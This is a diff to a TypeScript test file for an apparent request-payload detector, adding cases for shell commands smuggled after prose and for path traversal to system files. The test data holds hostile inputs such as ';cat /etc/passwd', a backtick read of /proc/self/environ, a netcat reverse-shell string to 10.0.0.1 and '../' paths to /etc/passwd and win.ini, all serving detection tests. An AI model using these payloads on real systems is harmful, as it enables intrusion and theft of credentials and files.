@@ -412,8 +412,8 @@ const NOT_COMMAND_INJECTION: Case[] = [
   ["query", "dt=Example+News+%7C+Net+income&sid=1"],
 ];
 
-// The same after a sentence of prose (cmdinject.ts commandAfterSentence): a shell reads the
-// sentences before it as the first command's arguments.
+// The same after a sentence of prose (sentences.ts): a shell reads the sentences before it as the
+// first command's arguments.
 const COMMAND_AFTER_SENTENCE: Case[] = [
   ["body:json", JSON.stringify({ review: "Arrived early. ;cat /etc/passwd Would buy again." })],
   ["query", "q=Great+service,+fast+delivery!+|+nc+-e+/bin/sh+10.0.0.1+4444"],
@@ -421,6 +421,19 @@ const COMMAND_AFTER_SENTENCE: Case[] = [
   ["body:json", JSON.stringify({ t: "Is this right? $(whoami)" })],
   ["body:json", JSON.stringify({ t: "Nice shop.   && ls -l /home" })],
   ["body:json", JSON.stringify({ t: "See the attached. 127.0.0.1; cat /etc/shadow" })],
+  ["body:json", JSON.stringify({ t: "Would buy again. 127.0.0.1;id Ordered the blue one" })],
+  ["body:json", JSON.stringify({ t: "Great shop. report.pdf`cat /proc/self/environ` Great." })],
+  ["body:json", JSON.stringify({ t: "It broke. \"; cat /etc/hostname #" })],
+];
+// An operating system's file after a `..` segment, at a sentence's start as at a value's.
+const OS_FILE_AFTER_SENTENCE: Case[] = [
+  ["body:json", JSON.stringify({ review: "Would buy again from this shop. ../../../../proc/self/environ Ordered it." })],
+  ["query", "q=Great+shop.+..%2F..%2F..%2Fetc%2Fpasswd+Ordered"],
+  ["body:form", "c=Nice!+..%5C..%5Cwindows%5Cwin.ini"],
+];
+const NOT_OS_FILE_AFTER_SENTENCE: Case[] = [
+  ["body:json", JSON.stringify({ t: "I ran it. tail -f /var/log/syslog then. See ../README.md too." })],
+  ["body:json", JSON.stringify({ t: "Config is in /etc/passwd. Really." })],
 ];
 const NOT_COMMAND_AFTER_SENTENCE: Case[] = [
   // Inside a sentence, or words that a command's name also is, followed by prose.
@@ -433,6 +446,8 @@ const NOT_COMMAND_AFTER_SENTENCE: Case[] = [
   // No word before the stop: an ellipsis, a version.
   ["body:json", JSON.stringify({ t: "wait... ;cat /etc/passwd" })],
   ["body:json", JSON.stringify({ t: "release 1.2. | nc -l 80" })],
+  // Dialogue: a quote that opens a sentence, a `;` inside it.
+  ["body:json", JSON.stringify({ t: "He said. \"Great; cat lovers unite\" She said. 'fine'; more later" })],
 ];
 
 // PHP code reading a superglobal (phpglobals.ts).
@@ -483,6 +498,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
   ["command-injection", "rce", COMMAND_INJECTION, NOT_COMMAND_INJECTION],
   ["command-after-sentence", "rce", COMMAND_AFTER_SENTENCE, NOT_COMMAND_AFTER_SENTENCE],
+  ["os-file-after-sentence", "traversal", OS_FILE_AFTER_SENTENCE, NOT_OS_FILE_AFTER_SENTENCE],
   ["sql-injection", "sqli", SQLI, NOT_SQLI],
   ["stacked-query", "sqli", STACKED_SQLI, NOT_STACKED_SQLI],
   ["probe-call", "sqli", PROBE_SQLI, NOT_PROBE_SQLI],
